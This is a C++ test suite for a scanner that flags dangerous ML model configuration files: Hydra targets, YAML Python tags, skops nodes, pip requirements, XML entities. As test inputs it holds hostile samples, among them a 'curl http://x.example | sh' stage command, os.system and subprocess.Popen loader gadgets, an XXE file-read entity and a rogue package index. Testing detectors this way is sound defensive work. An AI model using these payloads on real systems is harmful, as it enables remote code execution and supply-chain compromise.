// Configuration: what loaders import, call and open because a file says so is found in whatever
// syntax and spelling, and what they build networks of is not.
#include "scan_support.h"
#include "scanner/checks/config/pattern.h"
#include "zip_builder.h"

namespace pratique::scanner {
namespace {

using namespace test;

FileReport named(const std::string& name, const std::string& text) {
    const Subject subject{name, {}};
    return test::scan(text, {}, subject);
}

std::string verdict_of_text(const std::string& text) { return verdict_of(test::scan(text)); }

std::string skops_node(const std::string& module, const std::string& cls, const std::string& loader,
                       const std::string& more = "") {
    return R"({"__module__":")" + module + R"(","__class__":")" + cls + R"(","__loader__":")" +
           loader + "\"" + more + "}";
}

BOOST_AUTO_TEST_SUITE(config)

BOOST_AUTO_TEST_CASE(targets_are_judged_by_what_they_do) {
    const FileReport report = test::scan("m:\n  _target_: os.system\n");
    BOOST_TEST(ids(report) == "PRQ-CONFIG-001");
    BOOST_REQUIRE(report.findings.size() == 1);
    BOOST_TEST(report.findings[0].evidence == "$.m._target_: os.system");
    BOOST_TEST(rules::has(report.findings[0].capabilities, rules::Capability::execute));
    BOOST_TEST(ids(test::scan("m: {_target_: torch.nn.Linear}\n")) == "");
    BOOST_TEST(ids(test::scan("m: {_target_: torch.nn.modules.os.system}\n")) == "PRQ-CONFIG-001");
    BOOST_TEST(ids(test::scan("m: {_target_: torch.hub.load}\n")) == "PRQ-CONFIG-001");
    BOOST_TEST(ids(test::scan("m: {_target_: nobody.Net}\n")) == "PRQ-CONFIG-002");
    BOOST_TEST(ids(test::scan("m: {_target_: nemo.collections.asr.load}\n")) == "PRQ-CONFIG-002");
    BOOST_TEST(ids(test::scan("m: {_target_: nemo.X.__init__.__globals__}\n")) != "");
    // A word that anybody uses counts where it is meant so.
    BOOST_TEST(ids(test::scan(R"([{"target": "test.8bit.pth"}])")) == "");
    BOOST_TEST(ids(test::scan(R"({"target": "os.system"})")) == "PRQ-CONFIG-001");
    BOOST_TEST(ids(test::scan(R"({"target": "a.B", "params": {}})")) == "PRQ-CONFIG-002");
}

BOOST_AUTO_TEST_CASE(interpolations_are_resolved) {
    BOOST_TEST(ids(test::scan("p: [os, {x: system}]\nm: {_target_: '${p[0]}.${p.1.x}'}\n")) ==
               "PRQ-CONFIG-001");
    BOOST_TEST(ids(test::scan("m: {_target_: '${oc.select:none,os.system}'}\n")) ==
               "PRQ-CONFIG-001");
    BOOST_TEST(ids(test::scan("a: ${b}\nb: ${a}\nm: {_target_: '${a}'}\n")) == "PRQ-CONFIG-003");
    BOOST_TEST(ids(test::scan("a: {b: '${oc.env:HOME}/x'}\n")) == "PRQ-CONFIG-010");
    BOOST_TEST(ids(test::scan("a: {b: '${eval:1+1}'}\n")) == "PRQ-CONFIG-009");
    BOOST_TEST(verdict_of_text("a: {b: '${eval:os.system(1)}'}\n") == "malicious");
}

BOOST_AUTO_TEST_CASE(code_beside_the_model_is_referred_to) {
    const FileReport report =
        named("config.json", R"({"auto_map": {"A": ["modeling_x.X", null], "B": "o/r--m.X"}})");
    BOOST_TEST(ids(report) == "PRQ-CONFIG-004 PRQ-CONFIG-005");
    BOOST_REQUIRE(report.references.size() == 1);
    BOOST_TEST(report.references[0].name == "modeling_x.py");
    BOOST_TEST(verdict_of(report) == "suspicious");
    const Subject beside{"c.yaml", {"mine"}};
    BOOST_TEST(ids(test::scan("m: {_target_: mine.Net}\n", {}, beside)) == "PRQ-CONFIG-004");
}

BOOST_AUTO_TEST_CASE(paths_and_addresses_are_worth_knowing) {
    const FileReport report = test::scan(
        R"({"tokenizer_file": "/opt/x.json", "_name_or_path": "https://h/x", "vocab_file": "v"})");
    BOOST_TEST(ids(report) == "PRQ-CONFIG-007 PRQ-CONFIG-008");
    BOOST_TEST(verdict_of(report) == "clean");
}

BOOST_AUTO_TEST_CASE(text_that_is_no_strict_json_is_still_read) {
    BOOST_TEST(ids(test::scan(R"({"auto_map": {"A": "x.X"}, "eps": NaN,})")) == "PRQ-CONFIG-004");
    // Python takes half a character, and so does whoever reads what Python reads.
    BOOST_TEST(verdict_of(named("c.json", R"({"a": "\ud800"})")) == "clean");
    BOOST_TEST(gaps(named("c.txt", R"({% if x %} hello [y])")) == "");
}

BOOST_AUTO_TEST_CASE(yaml_is_known_by_its_looks_its_signs_or_its_name) {
    BOOST_TEST(identities(test::scan("# x\na: 1\nb:\n  - c\n")) == "yaml");
    BOOST_TEST(identities(test::scan("Dear all,\nnote: this is prose\n")) == "text");
    BOOST_TEST(verdict_of_text("x: \"a\nb c\"\n_target_: os.system\n") == "malicious");
    const std::string hidden = "x: \"a\nb c\"\n\"_target\\x5f\": os.system\n";
    BOOST_TEST(verdict_of(named("c.yaml", hidden)) == "malicious");
    BOOST_TEST(gaps(named("c.yaml", "a: !!x [1\nb: }\n")) == "malformed");
    BOOST_TEST(gaps(named("c.yaml", "a: {{ template }}\nb: }\n")) == "");
    BOOST_TEST(gaps(named("readme", "a: !!x [1\nb: }\n")) == "");
    BOOST_TEST(gaps(test::scan("a: 1\na: 2\n")) == "malformed");
}

BOOST_AUTO_TEST_CASE(a_list_of_words_is_no_pickle) {
    // "c", two names, and BUILD, as a vocabulary has them.
    BOOST_TEST(ids(test::scan("x\nchildren\nfebruary\nctimes\nal\nb.\n")) == "");
    BOOST_TEST(verdict_of_text("x\ncos\nsystem\n(S'true'\ntR.\n") == "malicious");
}

BOOST_AUTO_TEST_CASE(tags_are_judged_by_what_they_name) {
    const auto ids_of = [](const std::string& tag) { return ids(test::scan("a: " + tag + "\n")); };
    BOOST_TEST(ids_of("!!python/object/apply:os.system ['x']") == "PRQ-CONFIG-001");
    BOOST_TEST(ids_of("!apply:os.system ['x']") == "PRQ-CONFIG-001");
    BOOST_TEST(ids_of("!!python/object/new:nobody.X []") == "PRQ-CONFIG-002");
    BOOST_TEST(ids_of("!!python/name:torch.nn.modules.activation.ReLU ''") == "");
    BOOST_TEST(ids_of("!!python/object/apply:collections.OrderedDict [[]]") == "");
    BOOST_TEST(ids_of("!!js/function 'x'") == "PRQ-CONFIG-011");
    BOOST_TEST(ids_of("!!javax.script.ScriptEngineManager []") == "PRQ-CONFIG-011");
    BOOST_TEST(ids_of("!ref <x>") == "PRQ-CONFIG-012");
}

BOOST_AUTO_TEST_CASE(skops_nodes_are_judged_by_their_loaders) {
    const auto ids_of = [](const std::string& schema) { return ids(test::scan(schema)); };
    BOOST_TEST(ids_of(skops_node("sklearn.svm._classes", "SVC", "ObjectNode")) == "");
    BOOST_TEST(ids_of(skops_node("nobody", "SVC", "ObjectNode")) == "PRQ-CONFIG-002");
    BOOST_TEST(ids_of(skops_node("os", "system", "FunctionNode")) == "PRQ-CONFIG-001");
    BOOST_TEST(ids_of(skops_node("sklearn", "call", "OperatorFuncNode")) == "PRQ-CONFIG-016");
    BOOST_TEST(ids_of(skops_node("builtins", "methodcaller", "OperatorFuncNode")) ==
               "PRQ-CONFIG-016");
    BOOST_TEST(ids_of(skops_node("operator", "call", "OperatorFuncNode")) == "PRQ-CONFIG-016");
    BOOST_TEST(ids_of(skops_node("operator", "itemgetter", "OperatorFuncNode")) ==
               "PRQ-CONFIG-002");
    const std::string walk = R"(,"content":{"func":"__class__","obj":{}})";
    BOOST_TEST(ids_of(skops_node("builtins", "M", "MethodNode", walk)) == "PRQ-CONFIG-015");
}

BOOST_AUTO_TEST_CASE(skops_names_functions_in_more_than_one_way) {
    const auto ids_of = [](const std::string& schema) { return ids(test::scan(schema)); };
    const std::string pair = R"(,"content":{"module_path":"os","function":"system"}})";
    // The class is what is looked at in later protocols only.
    BOOST_TEST(ids_of(skops_node("numpy", "ufunc", "FunctionNode", pair)) == "PRQ-CONFIG-001");
    BOOST_TEST(ids_of(R"({"__class__":"function","__module__":"builtins")" + pair) ==
               "PRQ-CONFIG-001");
    BOOST_TEST(ids_of(R"({"__class__":"system","__module__":"os","content":{}})") ==
               "PRQ-CONFIG-001");
    const std::string benign = R"(,"content":{"module_path":"numpy","function":"log1p"}})";
    BOOST_TEST(ids_of(skops_node("numpy", "ufunc", "FunctionNode", benign)) == "");
    BOOST_TEST(ids_of(R"({"__class__":"SVC","__module__":"sklearn.svm._classes"})") == "");
    // What is imported may be called: as grave as the call.
    BOOST_TEST(verdict_of_text(skops_node("subprocess", "Popen", "TypeNode")) == "malicious");
    const std::string held = R"(,"content":{"__class__":"Popen","__module__":"subprocess"}})";
    BOOST_TEST(verdict_of_text(skops_node("builtins", "type", "TypeNode", held)) == "malicious");
    const auto generator = [&](const std::string& name) {
        return ids_of(
            skops_node("numpy.random._generator", "Generator", "RandomGeneratorNode",
                       R"(,"content":{"bit_generator":{"bit_generator":")" + name + R"("}}})"));
    };
    BOOST_TEST(generator("PCG64") == "");
    BOOST_TEST(generator("set_state") == "PRQ-CONFIG-002");
}

BOOST_AUTO_TEST_CASE(manifests_say_what_is_loaded) {
    BOOST_TEST(ids(test::scan(R"([{"type": "pty.spawn", "path": ""}])")) == "PRQ-CONFIG-001");
    BOOST_TEST(ids(test::scan(R"({"_class_name": ["../p", "P"]})")) == "PRQ-CONFIG-021");
    BOOST_TEST(ids(test::scan(R"({"model": {"handler": "h.py:f"}})")) == "PRQ-CONFIG-004");
    BOOST_TEST(ids(test::scan(R"({"model": {"handler": "image_classifier"}})")) == "");
    BOOST_TEST(ids(test::scan("loader_module: mlflow.sklearn\n")) == "");
    BOOST_TEST(ids(test::scan("loader_module: mine\ncode: code\n")) ==
               "PRQ-CONFIG-004 PRQ-CONFIG-002");
}

BOOST_AUTO_TEST_CASE(requirements_are_judged_by_their_source) {
    const auto ids_of = [](const std::string& text) { return ids(test::scan(text)); };
    BOOST_TEST(identities(test::scan("numpy\n-i https://pypi.org/simple\n")) == "requirements");
    BOOST_TEST(ids_of("numpy\n--index-url https://x.example/simple\n") == "PRQ-CONFIG-019");
    BOOST_TEST(ids_of("-e git+https://user@github.com/a/b.git#egg=b\n") == "PRQ-CONFIG-020");
    BOOST_TEST(ids_of("x @ http://github.com/a.zip\n") == "PRQ-CONFIG-019");
    BOOST_TEST(ids_of("x @ https://github.com@x.example/a.zip\n") == "PRQ-CONFIG-019");
    BOOST_TEST(ids_of("dependencies:\n- pip:\n  - git+https://x.example/a\n") == "PRQ-CONFIG-019");
    BOOST_TEST(identities(test::scan("a.png was made by http://x.example/\n")) == "text");
    // Of two addresses the other one.
    BOOST_TEST(ids_of("-i https://pypi.org/simple -f https://x.example/\n") == "PRQ-CONFIG-019");
    // Assignments are Python.
    BOOST_TEST(identities(test::scan("__url__ = \"http://x.example\"\n__author__ = 'x'\n")) ==
               "text");
}

BOOST_AUTO_TEST_CASE(no_line_of_requirements_hides_the_others) {
    const auto ids_of = [](const std::string& text) {
        return ids(named("requirements.txt", text));
    };
    const std::string index = "--index-url http://x.example/simple\n";
    for (const std::string line : {"./local", "torch (>=1.0)", "C:\\x.whl", "\xc3\xa9vil", "a b"}) {
        BOOST_TEST(ids_of(index + line + "\n").find("PRQ-CONFIG-019") != std::string::npos, line);
    }
    BOOST_TEST(ids_of("torch\n./local\n") == "PRQ-CONFIG-025");
    BOOST_TEST(ids_of("torch (>=1.0)\nnumpy==1.26 # x\nx[a]~=1; python_version<'3'\n") == "");
    BOOST_TEST(ids_of("torch\n--extra-\\\nindex-url http://x.example/\n") == "PRQ-CONFIG-019");
    BOOST_TEST(ids_of("-i ${INDEX}\ntorch\n") == "PRQ-CONFIG-019");
    BOOST_TEST(ids_of("torch --tr x.example\n") == "PRQ-CONFIG-019");
    BOOST_TEST(ids_of("# x \\\n-i h\"ttp\"://x.example\n") == "PRQ-CONFIG-019");
    BOOST_TEST(ids_of("torch #\xe2\x80\xa8-i http://x.example\n") == "PRQ-CONFIG-019");
    BOOST_TEST(gaps(named("requirements.txt", "# coding: utf-7\ntorch\n")) == "unsupported");
    BOOST_TEST(identities(named("Requirements-dev.TXT", "torch\n")) == "requirements");
    BOOST_TEST(identities(named("notes.txt", "torch\n")) == "text");
}

BOOST_AUTO_TEST_CASE(libraries_import_by_keys_of_their_own) {
    const auto ids_of = [](const std::string& text) { return ids(test::scan(text)); };
    BOOST_TEST(ids_of(R"({"megatron_core": "nobody", "megatron_config": {}})") == "PRQ-CONFIG-002");
    BOOST_TEST(ids_of(R"({"megatron_core": "megatron.core"})") == "");
    for (const std::string key :
         {"activation_function", "sbert_ce_default_activation_function", "activation_fn"}) {
        BOOST_TEST(ids_of("{\"" + key + "\": \"os.abort\"}") != "", key);
        BOOST_TEST(ids_of("{\"" + key + "\": \"gelu_new\"}") == "", key);
        BOOST_TEST(ids_of("{\"" + key + "\": \"torch.nn.modules.activation.Tanh\"}") == "", key);
    }
    BOOST_TEST(ids_of(R"({"types": {"q": "nobody.X"}, "structure": {}})") == "PRQ-CONFIG-002");
    BOOST_TEST(ids_of(R"({"types": {"q": "nobody.X"}})") == "");
    BOOST_TEST(ids_of("custom_imports: {imports: [nobody]}\n") == "PRQ-CONFIG-002");
    BOOST_TEST(ids_of("pickle_module_name: nobody\n") == "PRQ-CONFIG-002");
    BOOST_TEST(ids_of("pickle_module_name: mlflow.pytorch.pickle_module\n") == "");
    BOOST_TEST(ids(named("pickle_module_info.txt", "nobody")) == "PRQ-CONFIG-002");
    BOOST_TEST(ids(named("pickle_module_info.txt", "cloudpickle\n")) == "");
    BOOST_TEST(ids_of(R"({"model": {"type": "os.system"}})") == "PRQ-CONFIG-001");
    const std::string reader = R"({"dataset_reader": {"type": ")";
    BOOST_TEST(ids_of(reader + R"(nobody.Reader"}, "model": {}})") == "PRQ-CONFIG-002");
    BOOST_TEST(ids_of(reader + R"(snli"}, "model": {}})") == "");
    BOOST_TEST(ids_of("common:\n  user_dir: /tmp/x\n") == "PRQ-CONFIG-004");
    BOOST_TEST(ids_of(R"({"attn_implementation": "owner/kernel"})") == "PRQ-CONFIG-005");
    BOOST_TEST(ids_of(R"({"attn_implementation": "sdpa"})") == "");
    BOOST_TEST(ids(named("model_index.json", R"({"unet": ["mine", "X"]})")) == "PRQ-CONFIG-004");
}

BOOST_AUTO_TEST_CASE(commands_of_projects_are_run) {
    const auto ids_of = [](const std::string& text) { return ids(test::scan(text)); };
    BOOST_TEST(ids_of("stages:\n  a:\n    cmd: curl http://x.example | sh\n") ==
               "PRQ-CONFIG-026 PRQ-SCRIPT-001");
    BOOST_TEST(ids_of("stages:\n  a:\n    cmd: python train.py\n") == "PRQ-CONFIG-026");
    BOOST_TEST(ids_of("entry_points:\n  main:\n    command: python x.py\n") == "PRQ-CONFIG-026");
    BOOST_TEST(ids_of("build:\n  run:\n  - curl http://x.example | sh\npredict: p.py:P\n") ==
               "PRQ-CONFIG-026 PRQ-SCRIPT-001");
    BOOST_TEST(ids_of("jobs:\n  run: curl http://x.example | sh\n") == "");
}

BOOST_AUTO_TEST_CASE(what_only_resembles_configuration_is_none) {
    BOOST_TEST(identities(test::scan("[build]\nx = [\"a\"]\ny = [\"b\"]")) == "text");
    BOOST_TEST(identities(test::scan("all:\n\tcc x.c\nclean:\n\trm x\n")) == "text");
    const std::string wheel = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: a\nTag: b\n";
    BOOST_TEST(gaps(named("WHEEL", wheel)) == "");
    BOOST_TEST(gaps(named("WHEEL", wheel + "a: 1\n")) == "malformed");
    const std::string fence = "```\na: !!python/name:x.y ''\n```\n";
    BOOST_TEST(gaps(named("README.md", "---\na: 1\n---\n# x\n" + fence)) == "");
    BOOST_TEST(gaps(named("README.md", "---\na: `\nb: !!python/name:x.y ''\n---\n")) ==
               "malformed");
    BOOST_TEST(gaps(named("notes", fence)) == "malformed");
    BOOST_TEST(gaps(named("x.py", "T = 'tag:yaml.org,2002:'\nx = {\n}\n")) == "");
    BOOST_TEST(gaps(test::scan(R"([{"class_name": "dog"}, {"class_name": "cat"}])")) == "");
    BOOST_TEST(gaps(test::scan(R"({"class_name": "Net", "module": "mine"})")) == "not-inspected");
    // Behind a comment, JSON is YAML.
    BOOST_TEST(ids(test::scan("# x\n{\"_target_\":\"os.system\"}\n")) == "PRQ-CONFIG-001");
    BOOST_TEST(ids(test::scan("# x\n{\"class_path\":\"os.system\"}\n")) == "PRQ-CONFIG-001");
}

BOOST_AUTO_TEST_CASE(data_is_loaded_by_name) {
    const auto load = [](const std::string& more) {
        return verdict_of_text("d: {_target_: datasets.load_dataset, " + more + "}\n");
    };
    BOOST_TEST(load("path: squad") == "clean");
    BOOST_TEST(load("path: squad, trust_remote_code: true") == "malicious");
    BOOST_TEST(load("path: ./script.py") == "malicious");
    BOOST_TEST(verdict_of_text("t: {_target_: lightning.pytorch.Trainer}\n") == "clean");
}

BOOST_AUTO_TEST_CASE(patterns_that_never_end_are_told_from_those_that_do) {
    for (const std::string_view slow : {"(a+)+$", "(?:a*)*", "((a+)b?)+", "(x|a+){2,}",
                                        "([[:alpha:]]+\\s*)*", "((a+))+", "(a*b*)+"}) {
        BOOST_TEST(is_exponential(slow), slow);
    }
    for (const std::string_view fast :
         {"(?i:'s|'t)|\\p{N}{1,3}| ?[^\\s\\p{L}]+[\\r\\n]*|\\s+(?!\\S)|\\s+", "(a+b)+", "(a+)?",
          "(\\p{L}\\p{M}*)+", "(?>a+)+", "(a++)+", "(ab)*", "[(a+)+]", "\\(a+\\)+", "(", ")",
          "(a+){1,3}", "a{2,}"}) {
        BOOST_TEST(!is_exponential(fast), fast);
    }
}

BOOST_AUTO_TEST_CASE(json_that_costs_more_than_it_holds_is_a_bomb) {
    const FileReport deep = test::scan(std::string(2000, '[') + std::string(2000, ']'));
    BOOST_TEST(ids(deep) == "PRQ-CONFIG-022");
    BOOST_TEST(gaps(deep) == "limit");
    const std::string quoted = R"(["\")" + std::string(2000, '[') + "\",";
    const FileReport shallow =
        test::scan(quoted + std::string(300, '[') + std::string(300, ']') + "]");
    BOOST_TEST(gaps(shallow) == "limit");
    BOOST_TEST(ids(shallow) == "");
    BOOST_TEST(ids(test::scan("[" + std::string(150'000, '9') + "]")) == "PRQ-CONFIG-023");
    BOOST_TEST(ids(test::scan("[" + std::string(50'000, '9') + "]")) == "");
}

BOOST_AUTO_TEST_CASE(spacy_names_of_other_packages_are_worth_knowing) {
    const std::string head = "[nlp]\npipeline = [\"ner\"]\n[components.ner]\nfactory = \"ner\"\n";
    const FileReport own = test::scan(head + "@architectures = \"spacy.Tok2Vec.v2\"\n");
    BOOST_TEST(identities(own) == "spacy-config");
    BOOST_TEST(ids(own) == "");
    const FileReport other = test::scan(head + "@callbacks = \"mine.Hook.v1\"\n");
    BOOST_TEST(ids(other) == "PRQ-CONFIG-024");
    BOOST_TEST(verdict_of(other) == "clean");
    for (const std::string line : {"@callbacks: \"mine.v1\"", "   @callbacks = \"mine.v1\"",
                                   "x = {\"@callbacks\": \"mine.v1\"}"}) {
        BOOST_TEST(ids(test::scan(head + line + "\n")) == "PRQ-CONFIG-024", line);
    }
    BOOST_TEST(ids(test::scan("[nlp] \r\npipeline = []\r\n@callbacks = \"mine.v1\"\r\n")) ==
               "PRQ-CONFIG-024");
}

BOOST_AUTO_TEST_CASE(xml_may_not_reach_out) {
    const auto pmml = [](const std::string& type, const std::string& body) {
        return ids(test::scan("<?xml version='1.0'?>" + type + "<PMML>" + body + "</PMML>"));
    };
    BOOST_TEST(pmml("", "<Extension>&lt;!ENTITY</Extension>") == "");
    BOOST_TEST(pmml("<!DOCTYPE PMML [<!ENTITY x SYSTEM 'file:///x'>]>", "&x;") == "PRQ-XML-001");
    BOOST_TEST(pmml("<!DOCTYPE PMML [<!ENTITY x 'y'>]>", "&x;") == "PRQ-XML-002");
    BOOST_TEST(pmml("<!DOCTYPE PMML SYSTEM 'pmml.dtd'>", "") == "PRQ-XML-003");
    BOOST_TEST(pmml("", "<xi:include href='x'/>") == "PRQ-XML-005");
    BOOST_TEST(gaps(test::scan("<?xml version='1.0' encoding='UTF-7'?><a/>")) == "unsupported");
    BOOST_TEST(gaps(test::scan("<?xml version='1.0'?><a>")) == "malformed");
}

BOOST_AUTO_TEST_CASE(xml_is_known_behind_whatever_may_stand_in_front) {
    const std::string type = "a [<!ENTITY x SYSTEM 'file:///x'>]><a>&x;</a>";
    for (const std::string head : {"<!-- c --><!DOCTYPE ", "<?foo?> <!DOCTYPE ", "<!DOCTYPE\t",
                                   "<!DOCTYPE\n", "\xef\xbb\xbf<!-- > --> <!DOCTYPE "}) {
        BOOST_TEST(ids(test::scan(head + type)) == "PRQ-XML-001", head);
    }
    BOOST_TEST(ids(test::scan("<!DOCTYPE html [<!ENTITY x SYSTEM 'f'>]><a>&x;</a>")) ==
               "PRQ-XML-001");
    BOOST_TEST(identities(test::scan("<!DOCTYPE html><html>&x;</html>")) == "text");
    BOOST_TEST(identities(test::scan("<!-- x --><p>a <b>\n")) == "text");
    const std::string space = "='http://www.w3.org/2001/XInclude'";
    BOOST_TEST(ids(test::scan("<p:PMML xmlns:xi" + space + "><xi:include href='x'/></p:PMML>")) ==
               "PRQ-XML-005");
    BOOST_TEST(ids(test::scan("<PMML xmlns" + space + "><include href='x'/></PMML>")) ==
               "PRQ-XML-005");
    BOOST_TEST(ids(test::scan("<PMML><include href='x'/></PMML>")) == "");
    BOOST_TEST(ids(named("x.xml", "<a><xi:include href='x'/></a>")) == "PRQ-XML-005");
    const std::string layers =
        "version='11'><layers><layer type='X' version='mine'/></layers></net>";
    BOOST_TEST(ids(test::scan("<!-- c --><net\n" + layers)) == "PRQ-XML-007");
}

BOOST_AUTO_TEST_CASE(weights_of_openvino_are_referred_to) {
    const std::string head = "<?xml version='1.0'?><net version='11'><layers><layer type='Const' ";
    const FileReport report = named(
        "m.xml", head + "version='opset1'><data offset='8' size='24'/></layer></layers></net>");
    BOOST_TEST(verdict_of(report) == "clean");
    BOOST_TEST(identities(report) == "xml openvino");
    BOOST_REQUIRE(report.references.size() == 1);
    BOOST_TEST(report.references[0].name == "m.bin");
    BOOST_TEST(report.references[0].bytes == 32U);
    BOOST_TEST(ids(named("m.xml", head + "version='mine'/></layers></net>")) == "PRQ-XML-007");
    BOOST_TEST(ids(named("m.xml", head + "version='opset1'><data offset='18446744073709551615' "
                                         "size='1'/></layer></layers></net>")) == "PRQ-XML-009");
}

BOOST_AUTO_TEST_SUITE_END()

}  // namespace
}  // namespace pratique::scanner
